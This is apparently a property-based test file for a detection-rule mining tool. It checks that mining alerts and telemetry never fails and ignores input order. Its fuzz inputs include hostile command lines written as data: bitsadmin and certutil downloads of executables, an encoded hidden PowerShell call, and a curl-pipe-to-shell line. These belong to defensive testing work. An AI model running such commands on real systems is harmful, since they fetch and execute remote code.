"""Whatever alerts and telemetry say, mining ends, raises nothing, and gives the same for the same in any order."""

from datetime import date
from typing import Any

import polars as pl
import pytest
import yaml
from hypothesis import Phase, given, settings
from hypothesis import strategies as st

from longtail.detections.evasions import EVASIONS, Start
from longtail.detections.generalise import deeds
from longtail.detections.legitimate import STARTS
from longtail.detections.mining import mined
from longtail.detections.navigator import navigator
from longtail.detections.neutral import neutral
from longtail.detections.report import report

TEXTS = st.text(max_size=40) | st.sampled_from(
    [
        "bitsadmin /transfer n http://1.2.3.4/a.exe c:\\users\\public\\a.exe",
        "cmd /c certutil -urlcache -f http://a/b %TEMP%\\c.exe & echo open 1>x",
        "powershell -nop -w hidden -enc " + "QUJD" * 60,
        "sh -c curl http://a/b | sh",
        "\ud800",
        "a" * 3000,
        "`" * 50,
        '"' * 99,
        "\x1b[2J",
        "{}",
        "*?\\*",
    ]
)
IMAGES = (
    st.sampled_from(
        ["C:\\Windows\\System32\\bitsadmin.exe", "C:\\Windows\\System32\\cmd.exe", "/bin/sh", "", "\\", "x"]
    )
    | TEXTS
)
EXECUTIONS = st.fixed_dictionaries(
    {"time": st.sampled_from(["2026-03-04T05:06:07Z", "2026-03-04", "no time"]), "image": IMAGES, "command_line": TEXTS,
     "parent_image": IMAGES | st.none(), "role": st.sampled_from(["anomaly", "context"])}
)  # fmt: skip
ALERTS = st.fixed_dictionaries(
    {"id": st.just("1"), "tenant": st.sampled_from("tu"), "account": TEXTS, "account_class": st.just("mssql"),
     "host": st.sampled_from("hk"), "severity": st.sampled_from(["low", "high", "?"]),
     "executions": st.lists(EXECUTIONS, max_size=3)}
)  # fmt: skip
ROWS = st.fixed_dictionaries(
    {"tenant": st.sampled_from("tu"), "host": st.sampled_from("hkl"), "account": TEXTS | st.none(),
     "account_class": st.just("human"), "day": st.sampled_from([date(2026, 3, 4), date(2026, 3, 5)]),
     "image": IMAGES | st.none(), "command_line": TEXTS | st.none(), "parent_image": st.none() | TEXTS,
     "parent_command_line": st.none(), "runs": st.just(1)}
)  # fmt: skip


def utf8(rows: list[dict[str, Any]]) -> pl.DataFrame:
    """Tables hold no half characters: readers have replaced them."""
    clean = [{key: value.replace("\ud800", "?") if isinstance(value, str) else value for key, value in row.items()}
             for row in rows]  # fmt: skip
    return pl.DataFrame(clean, schema=STARTS, orient="row")


@settings(max_examples=25, deadline=None, phases=(Phase.explicit, Phase.reuse, Phase.generate))
@given(st.lists(ALERTS, max_size=4), st.lists(ROWS, max_size=12), st.randoms())
def test_mining_is_total_and_blind_to_order(alerts: list[Any], rows: list[Any], chance: Any) -> None:
    first = mined(alerts, utf8(rows))
    for rule in first.rules:
        assert yaml.safe_load(rule.text.encode())["id"] == rule.id
        assert rule.text.isprintable() or "\n" in rule.text
    assert "\x1b" not in report(first)
    navigator(first.rules)
    chance.shuffle(alerts)
    chance.shuffle(rows)
    again = mined(alerts, utf8(rows))
    assert [rule.text for rule in again.rules] == [rule.text for rule in first.rules]
    assert [(each.label, each.reason, each.deeds) for each in again.refused] == [
        (each.label, each.reason, each.deeds) for each in first.refused
    ]


KEYS = st.sampled_from(["executions", "id", "host", "role", "time"])
THINGS = st.recursive(
    st.none() | st.integers() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(KEYS, inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=40, deadline=None)
@given(THINGS)
def test_anything_may_stand_where_an_alert_should(thing: Any) -> None:
    found, quarantined = deeds([thing])
    assert not found and len(quarantined) <= 1


@settings(max_examples=60, deadline=None)
@given(IMAGES, TEXTS)
def test_dressing_up_and_neutralising_are_total(image: str, line: str) -> None:
    start = Start(image, line)
    for evasion in EVASIONS:
        evasion.dress(start)
    once = neutral(start)
    assert len(once.command_line) <= 20 * len(line) + 200


@pytest.mark.parametrize("line", ["(" * 20_000, "a\\" * 10_000, "://" * 10_000, " -" * 10_000, "A" * 32_000])
def test_long_lines_end_soon(line: str) -> None:
    assert mined([alert_of(f"cmd /c certutil -urlcache {line}")], pl.DataFrame(schema=STARTS)).quarantined == ()


def alert_of(line: str) -> dict[str, Any]:
    execution = {"time": "2026-03-04T05:06:07Z", "image": "C:\\Windows\\System32\\bitsadmin.exe", "command_line": line,
                 "parent_image": None, "role": "anomaly"}  # fmt: skip
    return {"id": "1", "tenant": "t", "account": "a", "account_class": "mssql", "host": "h", "severity": "high",
            "executions": [execution]}  # fmt: skip


def test_half_a_character_is_no_obstacle() -> None:
    (rule,) = mined([alert_of("bitsadmin /transfer \ud800 http://1.2.3.4/a c:\\users\\public\\a.exe")], utf8([])).rules
    assert rule.text.encode() and report(mined([alert_of("\ud800")], utf8([])))
